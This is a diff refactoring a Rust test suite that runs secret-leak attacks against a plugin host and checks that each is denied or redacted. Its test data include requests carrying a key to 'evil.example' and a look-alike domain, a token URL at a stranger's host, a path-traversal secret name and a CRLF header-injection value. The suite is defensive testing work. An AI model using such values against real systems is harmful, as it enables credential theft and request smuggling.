@@ -1,67 +1,81 @@
 //! Plugins that want to hold a secret, in whatever clothing.
 
-use tollgate_billing::ports::SendFailure;
+use std::sync::Arc;
+
 use tollgate_guests::guest::gateway;
 use tollgate_guests::value::{Value, bare, case, plain, record, text};
 
-use super::egress::{request, sender};
 use super::rooms_stand;
 use crate::attack::{Attack, Verdict};
 use crate::ground::Ground;
-use crate::rooms::{KEY, OTHER_KEY, OTHER_SECRET, Plan, Rooms, SECRET};
+use crate::rooms::{KEY, OTHER_KEY, OTHER_SECRET, Rooms, SECRET};
+use crate::senders::{GRANTED, Senders, Sent, request, sender};
 use crate::trap::Trap;
+
+/// Each: the attack that sends it, where to, and with which secret. A path is the provider's that works with the plugin.
+type Request = (&'static str, &'static str, fn() -> Value);
+
+const REQUESTS: [Request; 12] = [
+    ("echo-bearer", "/echo", || bearer(KEY)),
+    ("echo-basic", "/echo", || basic(KEY)),
+    ("echo-header", "/error", || header("x-key", KEY)),
+    ("echo-hexadecimal", "/hex", || bearer(KEY)),
+    ("error-text", "/nonsense", || bearer(KEY)),
+    ("secret-for-a-stranger", "https://evil.example/", || bearer(KEY)),
+    ("secret-for-a-look-alike", "https://api.example.com.evil.example/", || bearer(KEY)),
+    ("token-at-a-stranger", "/echo", token_elsewhere),
+    ("secret-of-another", "/echo", || bearer(OTHER_KEY)),
+    ("secret-by-a-path", "/echo", || bearer("../honest-1/other-token")),
+    ("header-around-a-secret", "/echo", || header("x-a: b\r\nx-key", KEY)),
+    ("redirect-with-a-secret", "/redirect", || bearer(KEY)),
+];
+
+/// What a sent request must have come to.
+type Judge = fn(&Sent<'_>) -> Verdict;
+
+fn sends(name: &'static str, tries: &'static str, judge: Judge) -> Attack {
+    Attack::new("secrets", name, tries, move |ground: Ground| async move {
+        let senders: Arc<Senders> = ground.shared("secrets", || Senders::of(&ground, requests)).await;
+        let number = REQUESTS.iter().position(|row| row.0 == name).ok_or("the request is missing")?;
+        judge(&senders.send(number, vec![GRANTED.to_owned(), senders.trap.host()]).await?)
+    })
+}
+
+fn requests(trap: &Trap) -> Vec<Value> {
+    let request = |(_, to, auth): &Request| {
+        let url = if to.starts_with('/') { format!("http://{}{to}", trap.host()) } else { (*to).to_owned() };
+        request(&url).with("auth", auth())
+    };
+    REQUESTS.iter().map(request).collect()
+}
 
 pub fn attacks() -> Vec<Attack> {
     vec![
-        echo("echo-bearer", "has an echo service answer the bearer token", "/echo", || bearer(KEY)),
-        echo("echo-basic", "has an echo service answer the password, in base64", "/echo", || basic(KEY)),
-        echo("echo-header", "has an echo service answer a header with the secret", "/error", || header("x-key", KEY)),
-        echo("echo-hexadecimal", "has an echo service answer it in hexadecimal", "/hex", || bearer(KEY)),
-        Attack::new(
-            "secrets",
-            "error-text",
-            "has its provider break off, and reads the error",
-            |ground: Ground| async move {
-                let (rooms, _) = sends(&ground, "/nonsense", bearer(KEY)).await;
-                let shown = rooms.shown().await?;
-                let outcome = format!("{:?}", rooms.egress.outcomes.lock());
-                clean(&(shown + &outcome))
-            },
-        ),
-        elsewhere("secret-for-a-stranger", "sends the secret to a host that was not granted", "https://evil.example/"),
-        elsewhere(
-            "secret-for-a-look-alike",
-            "sends it to a name that begins like the granted one",
-            "https://api.example.com.evil.example/",
-        ),
-        token_elsewhere(),
-        other("secret-of-another", "names a secret that only another plugin has", OTHER_KEY),
-        other("secret-by-a-path", "names another plugin's secret by a path", "../honest-1/other-token"),
-        Attack::new(
-            "secrets",
-            "header-around-a-secret",
-            "ends the header before the secret",
-            |ground: Ground| async move {
-                let auth = header("x-a: b\r\nx-key", KEY);
-                let (rooms, trap) = sends(&ground, "/echo", auth).await;
-                denied(&rooms, &trap, "header").await
-            },
-        ),
-        Attack::new(
-            "secrets",
-            "redirect-with-a-secret",
-            "has the secret carried on to another address",
-            |ground: Ground| async move {
-                let (rooms, trap) = sends(&ground, "/redirect", bearer(KEY)).await;
-                rooms.shown().await?;
-                let carried = trap.seen().iter().any(|request| request.contains("/reached"));
-                if carried {
-                    Err("it was carried on".to_owned())
-                } else {
-                    Ok("302 is the answer; nothing followed".to_owned())
-                }
-            },
-        ),
+        sends("echo-bearer", "has an echo service answer the bearer token", blacked_out),
+        sends("echo-basic", "has an echo service answer the password, in base64", blacked_out),
+        sends("echo-header", "has an echo service answer a header with the secret", blacked_out),
+        sends("echo-hexadecimal", "has an echo service answer it in hexadecimal", blacked_out),
+        sends("error-text", "has its provider break off, and reads the error", |sent| {
+            clean(&format!("{}{:?}", sent.shown, sent.outcome))
+        }),
+        sends("secret-for-a-stranger", "sends the secret to a host that was not granted", |sent| {
+            denied(sent, "is not granted")
+        }),
+        sends("secret-for-a-look-alike", "sends it to a name that begins like the granted one", |sent| {
+            denied(sent, "is not granted")
+        }),
+        sends("token-at-a-stranger", "has the host fetch a token at a stranger's, with the client's secret", |sent| {
+            denied(sent, "is not granted")
+        }),
+        sends("secret-of-another", "names a secret that only another plugin has", |sent| denied(sent, "")),
+        sends("secret-by-a-path", "names another plugin's secret by a path", |sent| denied(sent, "")),
+        sends("header-around-a-secret", "ends the header before the secret", |sent| denied(sent, "header")),
+        sends("redirect-with-a-secret", "has the secret carried on to another address", |sent| {
+            if sent.seen.iter().any(|request| request.contains("/reached")) {
+                return Err("it was carried on".to_owned());
+            }
+            Ok("302 is the answer; nothing followed".to_owned())
+        }),
         Attack::new(
             "secrets",
             "secret-in-the-settings",
@@ -98,12 +112,6 @@ fn header(name: &str, key: &str) -> Value {
     case("header", record(&[("name", text(name)), ("value", value)]))
 }
 
-async fn sends(ground: &Ground, path: &str, auth: Value) -> (Rooms, Trap) {
-    let trap = Trap::open().await;
-    let request = request(&format!("http://{}{path}", trap.host())).with("auth", auth);
-    (Rooms::with_provider(ground.patient(), &sender(request), &trap).await, trap)
-}
-
 /// No secret stands in what a plugin or its reader saw.
 fn clean(shown: &str) -> Verdict {
     let forms = |secret: &str| {
@@ -124,61 +132,32 @@ fn clean(shown: &str) -> Verdict {
     }
 }
 
-fn echo(name: &'static str, tries: &'static str, path: &'static str, auth: fn() -> Value) -> Attack {
-    Attack::new("secrets", name, tries, move |ground: Ground| async move {
-        let (rooms, trap) = sends(&ground, path, auth()).await;
-        let shown = rooms.shown().await?;
-        // It must have gone out, or nothing was tried.
-        if !trap.seen().iter().any(|request| request.contains("authorization") || request.contains("x-key")) {
-            return Err(format!("no secret was sent: {shown}"));
-        }
-        if !shown.contains("[secret]") {
-            return Err(format!("nothing was blacked out: {shown}"));
-        }
-        clean(&shown)
-    })
+/// The provider did get the secret, and nobody else did.
+fn blacked_out(sent: &Sent<'_>) -> Verdict {
+    let shown = &sent.shown;
+    // It must have gone out, or nothing was tried.
+    if !sent.seen.iter().any(|request| request.contains("authorization") || request.contains("x-key")) {
+        return Err(format!("no secret was sent: {shown}"));
+    }
+    if !shown.contains("[secret]") {
+        return Err(format!("nothing was blacked out: {shown}"));
+    }
+    clean(shown)
 }
 
-fn elsewhere(name: &'static str, tries: &'static str, url: &'static str) -> Attack {
-    Attack::new("secrets", name, tries, move |ground: Ground| async move {
-        let trap = Trap::open().await;
-        let guest = sender(request(url).with("auth", bearer(KEY)));
-        let plan = Plan { granted: vec!["api.example.com".to_owned()], ..Plan::of(ground.patient(), &guest) };
-        denied(&Rooms::open(plan).await, &trap, "is not granted").await
-    })
-}
-
-fn token_elsewhere() -> Attack {
-    let tries = "has the host fetch a token at a stranger's, with the client's secret";
-    Attack::new("secrets", "token-at-a-stranger", tries, |ground: Ground| async move {
-        let credentials = record(&[
-            ("token-url", text("https://evil.example/token")),
-            ("id", part("text", "client")),
-            ("secret", part("secret", KEY)),
-            ("scope", bare("none")),
-        ]);
-        let (rooms, trap) = sends(&ground, "/echo", case("client-credentials", credentials)).await;
-        denied(&rooms, &trap, "is not granted").await
-    })
-}
-
-fn other(name: &'static str, tries: &'static str, key: &'static str) -> Attack {
-    Attack::new("secrets", name, tries, move |ground: Ground| async move {
-        let (rooms, trap) = sends(&ground, "/echo", bearer(key)).await;
-        denied(&rooms, &trap, "").await
-    })
+fn token_elsewhere() -> Value {
+    let credentials = record(&[
+        ("token-url", text("https://evil.example/token")),
+        ("id", part("text", "client")),
+        ("secret", part("secret", KEY)),
+        ("scope", bare("none")),
+    ]);
+    case("client-credentials", credentials)
 }
 
 /// The plugin is told no, nothing was sent, and no secret stands in the reason.
-async fn denied(rooms: &Rooms, trap: &Trap, words: &str) -> Verdict {
-    let shown = rooms.shown().await?;
-    let outcome = rooms.egress.outcomes.lock().first().cloned();
-    match outcome {
-        Some(Err(SendFailure::Denied(why))) if why.contains(words) && trap.seen().is_empty() => {
-            clean(&format!("denied: {why}"))
-        }
-        other => Err(format!("{other:?}, sent {:?}, and the plugin shows {shown}", trap.seen())),
-    }
+fn denied(sent: &Sent<'_>, words: &str) -> Verdict {
+    sent.denied(words).and_then(|how| clean(&how))
 }
 
 fn kept() -> Attack {
